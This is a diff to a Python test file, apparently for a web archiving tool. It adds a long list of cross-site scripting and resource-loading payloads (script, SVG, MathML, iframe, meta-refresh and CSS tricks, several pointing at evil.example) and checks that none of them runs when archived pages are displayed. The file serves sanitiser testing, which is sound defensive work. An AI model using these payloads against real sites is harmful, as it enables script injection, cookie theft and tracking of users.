@@ -57,14 +57,87 @@ HARM = [
     "<p>]]><!--><img src=x onerror=document.title='harmed'>--></p>",
     "<textarea></textarea><img src=x onerror=document.title='harmed'></textarea>",
     "<button formaction=\"javascript:document.title='harmed'\" form=marks>x</button>",
+    "<script>window.name='x';document.title='harmed'</script >",
+    "<SCRIPT SRC=//evil.example/X.JS></SCRIPT>",
+    "<script/x>document.title='harmed'</script>",
+    "<scr<script>ipt>document.title='harmed'</script>",
+    "<script type=text/template></script><script>document.title='harmed'</script>",
+    "<script type=speculationrules>{\"prefetch\": [{\"source\": \"list\", \"urls\": [\"//evil.example/s\"]}]}</script>",
+    "<script nonce=x src=data:text/javascript,document.title='harmed'></script>",
+    "<script>/*<!--*/document.title='harmed'//--></script>",
+    "<svg><script href=//evil.example/x.js /></svg>",
+    "<svg><script>document.title='harmed'</script></svg>",
+    "<svg><animate onbegin=\"document.title='harmed'\" attributeName=x dur=1s>",
+    "<svg><set attributeName=href to=javascript:document.title='harmed' begin=0s>",
+    "<svg><foreignObject><img src=x onerror=\"document.title='harmed'\"></foreignObject></svg>",
+    "<svg><style>@import url(//evil.example/svg.css);</style></svg>",
+    "<svg><filter><feImage href=//evil.example/f /></filter></svg>",
+    "<svg><a xlink:href=\"javascript:document.title='harmed'\"><text>x</text></a></svg>",
+    "<svg><image xlink:href=//evil.example/xlink /></svg>",
+    "<svg style=\"background: url(//evil.example/svgb)\"></svg>",
+    "<svg></p><style><a title=\"</style><img src=x onerror=document.title='harmed'>\">",
+    "<math><mtext><table><mglyph><style><img src=x onerror=document.title='harmed'></style></mglyph></table></mtext></math>",
+    "<math href=\"javascript:document.title='harmed'\">x</math>",
+    "<math><annotation-xml encoding=text/html><img src=x onerror=document.title='harmed'></annotation-xml></math>",
+    "<img src=\"x` `<script>document.title='harmed'</script>\">",
+    "<img/src=x/onerror=document.title='harmed'>",
+    "<img src=x:x onerror=document.title='harmed' //>",
+    "<img src=data:image/svg+xml,%3Csvg%20onload=document.title='harmed'%3E>",
+    "<img srcset='//evil.example/1 1x, //evil.example/2 2x' sizes=100vw>",
+    "<img src=//evil.example/lazy loading=eager fetchpriority=high>",
+    "<img usemap=#m src=x><map name=m><area href=\"javascript:document.title='harmed'\" shape=default></map>",
+    "<image src=//evil.example/image>",
+    "<iframe src=\"javascript:parent.document.title='harmed'\"></iframe>",
+    "<iframe src=data:text/html,<script>parent.document.title='harmed'</script>></iframe>",
+    "<iframe srcdoc='<img src=//evil.example/srcdoc>'></iframe>",
+    "<iframe name=x src=about:blank onload=\"document.title='harmed'\"></iframe>",
+    "<frameset onload=\"document.title='harmed'\"><frame src=//evil.example></frameset>",
+    "<object type=text/html data=//evil.example/o><param name=movie value=//evil.example/m></object>",
+    "<applet code=x archive=//evil.example/a.jar></applet>",
+    "<embed src=\"javascript:document.title='harmed'\">",
+    "<meta http-equiv=set-cookie content='session=stolen'>",
+    "<meta http-equiv=content-security-policy content=\"script-src *\">",
+    "<meta http-equiv=refresh content=\"0; url=javascript:document.title='harmed'\">",
+    "<meta http-equiv=refresh content=\"0; url=data:text/html,harmed\">",
+    "<base target=_top href=javascript:1/>",
+    "<link rel=stylesheet href=data:text/css,*{background:url(//evil.example/dc)}>",
+    "<link rel=preload as=image href=//evil.example/pre><link rel=preconnect href=//evil.example>",
+    "<link rel=dns-prefetch href=//evil.example><link rel=modulepreload href=//evil.example/m.js>",
+    "<link rel=icon href=//evil.example/i.ico><link rel=manifest href=//evil.example/m.json>",
+    "<link rel=import href=//evil.example/import.html>",
+    "<style>@font-face { font-family: f; src: url(//evil.example/f) } * { font-family: f }</style>",
+    "<style>body::after { content: url(//evil.example/content) }</style>",
+    "<style>*{list-style:url(//evil.example/ls);cursor:url(//evil.example/cu),auto}</style>",
+    "<style>a[href^='http']{background:image-set('//evil.example/is' 1x)}</style>",
+    "<p style=\"position:fixed;inset:0;z-index:9999;background:url(//evil.example/over)\">over all</p>",
+    "<div style=\"width:expression(document.title='harmed');behavior:url(//evil.example/b.htc)\">x</div>",
+    "<form id=marks action=javascript:document.title='harmed'><input type=submit autofocus></form>",
+    "<form><button formaction=//evil.example type=submit autofocus>x</button></form><input form=marks name=star>",
+    "<a href=\"java&#10;script:document.title='harmed'\">x</a><a href=\"\x01javascript:document.title='harmed'\">y</a>",
+    "<a href=\"data:text/html,<script>opener.document.title='harmed'</script>\" target=_blank rel=opener>x</a>",
+    "<a href=vbscript:x>x</a><a href=blob:x>y</a><a href=filesystem:x>z</a><a id=body name=body href=#x>w</a>",
+    "<video><source src=//evil.example/vs onerror=\"document.title='harmed'\"><track src=//evil.example/tr default></video>",
+    "<x contenteditable autofocus tabindex=0 onfocus=\"document.title='harmed'\">x</x>",
+    "<p onpointerover=\"document.title='harmed'\" onanimationstart=\"document.title='harmed'\" accesskey=x>p</p>",
+    "<xmp><img src=x onerror=document.title='harmed'></xmp>",
+    "<title></title><img src=x onerror=document.title='harmed'></title>",
+    "<select><style></select><img src=x onerror=document.title='harmed'></style></select>",
+    "<p popover id=told onbeforetoggle=\"document.title='harmed'\">x</p><button popovertarget=told>x</button>",
+    "<img name=getElementById src=x><img name=querySelector src=x><form name=body><input name=dataset></form>",
+    "<dialog open id=keys onclose=\"document.title='harmed'\"><form method=dialog><button autofocus>x</button></form></dialog>",
+    "<object id=main data=data:text/html,<script>top.document.title='harmed'</script>></object>",
+    "\u2028<script>\u2029document.title='harmed'</script>\u202e",
+    "<plaintext><img src=x onerror=document.title='harmed'>",
 ]  # fmt: skip
+SWALLOWS = ("<frameset", "<plaintext")
+"""In a head they would leave nothing else of the page."""
 TITLES = [
     "<img src=x onerror=document.title='harmed'>",
     "{{ 7*7 }}</title><script>1</script>",
     '"><svg onload=1>',
     "\u202egnp.exe",
 ]
-PAGES = 8
+PAGES = 10
 """So many pages share them: each begins with another."""
 MAP = """\
 sitewright: 1
@@ -89,7 +162,7 @@ def folder(tmp_path: Path) -> Path:
     ):
         opened.add_site("evil.example", url="https://evil.example/")
         opened.save_map(MAP, "person")
-        made = [hostile(number, "\n".join(HARM[number::PAGES])) for number in range(PAGES)]
+        made = [hostile(number, HARM[number::PAGES]) for number in range(PAGES)]
         places = archive.append_all(made)
         opened.commit_pages(
             [
@@ -100,10 +173,11 @@ def folder(tmp_path: Path) -> Path:
     return tmp_path
 
 
-def hostile(number: int, harm: str) -> Page:
+def hostile(number: int, own: list[str]) -> Page:
+    harm, head = "\n".join(own), "\n".join(one for one in own if not one.startswith(SWALLOWS))
     title = TITLES[number % len(TITLES)].replace("<", "&lt;")
     html = (
-        f"<html lang=en><head>{harm}</head><h1>{title} {number}</h1><h2>{title}</h2><p class=by>{title}</p><b class=tag>{title}</b>"
+        f"<html lang=en><head>{head}</head><h1>{title} {number}</h1><h2>{title}</h2><p class=by>{title}</p><b class=tag>{title}</b>"
         f"<div class=text><p>Words before it.</p>{harm}<p>Words behind it, number {number}.</p></div>"
     )
     return Page(url=f"https://evil.example/{number}", body=html.encode(), via="http")
@@ -111,6 +185,7 @@ def hostile(number: int, harm: str) -> Page:
 
 def test_nothing_of_them_runs_or_loads(page: Any, store: Store) -> None:
     ids = [one.id for one in store.records()]
+    assert len(HARM) >= 100
     assert len(ids) == PAGES
     for path in ("/", "/search?q=words", "/records", "/site/evil.example"):
         page.goto(path)
